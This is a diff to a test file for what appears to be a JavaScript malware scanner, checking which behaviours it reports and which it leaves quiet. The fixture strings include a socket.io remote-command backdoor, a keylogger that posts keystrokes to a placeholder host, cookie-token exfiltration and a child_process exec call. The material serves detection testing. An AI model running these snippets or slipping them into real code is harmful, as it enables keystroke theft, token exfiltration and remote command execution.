@@ -2,7 +2,7 @@
 
 import pytest
 
-from tests.scanners.javascript.reading import says
+from tests.scanners.javascript.reading import read, says
 
 URL = "https://a.example.invalid/"
 SEEN = {
@@ -33,7 +33,7 @@ SEEN = {
             "const s = require('socket.io-client').io('wss://a.example.invalid');"
             "s.on('x', (line, done) => done(require('child_process').execSync('id').toString()))"
         ),
-        "network.send '' [network,process] import {}",
+        "network.send 'wss://a.example.invalid' [process] import {}",
     ),
     "constructor of asynchronous functions": (
         (
@@ -115,7 +115,7 @@ SEEN = {
             "const keys = []; document.addEventListener('keydown', e => keys.push(e.key));"
             f"setInterval(() => fetch('{URL}', {{ method: 'POST', body: keys.join('') }}), 1000)"
         ),
-        f"network.send '{URL}' [argument,keys] import {{loop}}",
+        f"network.send '{URL}' [keys] import {{loop}}",
     ),
     "cookies of a window": (
         (
@@ -184,3 +184,54 @@ SEEN = {
 @pytest.mark.parametrize(("code", "said"), SEEN.values(), ids=SEEN.keys())
 def test_detours_are_followed(code: str, said: str) -> None:
     assert said in says(code)
+
+
+QUIET = {
+    "one of a page's cookies": (
+        f"const t = document.cookie.match(/xsrf=(.*)/)[1]; fetch('{URL}', {{ headers: {{ 'X-XSRF-TOKEN': t }} }})",
+        "secret,",
+    ),
+    "own class by the name of its parent": (
+        "class A extends require('events') {} A.Query = class {}; A.make = () => 1",
+        "host.patch",
+    ),
+    "listener of an emitter of its own": (
+        (
+            "const all = []; function emit(e, args) { all.forEach(({ listener }) => listener(...args)) }"
+            f"fetch('{URL}').then(r => emit('x', [r, config.token]))"
+        ),
+        "network.send",
+    ),
+    "picture of a page": ("new Image().src = 'https://a.example.invalid/' + user.id", "network.send"),
+    "preference of a page": (
+        f"fetch('{URL}?t=' + localStorage.getItem('theme') + localStorage.color)",
+        "credentials",
+    ),
+    "compiled code in the open": (
+        "WebAssembly.instantiate(Buffer.from('AGFzbQ==', 'base64'))",
+        "code.load",
+    ),
+}
+
+
+@pytest.mark.parametrize(("code", "unsaid"), QUIET.values(), ids=QUIET.keys())
+def test_honest_neighbours_stay_quiet(code: str, unsaid: str) -> None:
+    assert not [line for line in says(code) if unsaid in line]
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        'export declare const a: (p: string) => Promise<import("node:fs").Dirent<string>[] | Error>;\n',
+        "export default function (): Pick<A, 'b'>;\n",
+        "declare class Mail<out T = S, out D extends O = O> extends E {}\n",
+    ],
+)
+def test_declarations_alone_are_no_broken_script(text: str) -> None:
+    assert not read(text, path="index.d.ts").errors
+
+
+def test_code_in_a_file_of_declarations_is_read() -> None:
+    facts = read("x = import('./a'); import('child_process').then(c => c.exec('id'))\n", path="index.d.ts").facts
+
+    assert [fact.detail for fact in facts] == ["id"]
